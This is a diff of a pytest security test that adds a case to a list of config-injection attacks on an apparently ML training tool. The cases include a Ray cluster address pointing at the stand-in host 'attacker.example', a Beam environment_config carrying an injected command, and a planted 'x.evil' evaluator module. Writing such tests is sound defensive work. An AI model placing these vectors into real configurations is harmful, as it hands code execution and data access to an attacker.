@@ -126,13 +126,16 @@ def attack(place: Place, kind: str) -> str:
         options = f"--runner=PortableRunner --environment_type=PROCESS --environment_config='{command}'"
         place.write_run(engine={"runner": "beam", "beam_options": options})
         return "engine.beam_options"
+    if kind == "address":
+        place.write_run(engine={"runner": "ray", "address": "attacker.example:6379"})
+        return "engine.address"
     place.module("x.evil", EVALUATOR)
     section, names = ("train", ["validation"]) if kind == "train" else ("evaluate", ["bits_per_byte"])
     place.write_run(**{section: {"evaluators": [*names, "x.evil.Own"]}})
     return "x.evil"
 
 
-KINDS = ("own filter", "function", "train", "evaluate", "beam options")
+KINDS = ("own filter", "function", "train", "evaluate", "beam options", "address")
 
 
 @pytest.mark.parametrize("kind", KINDS)
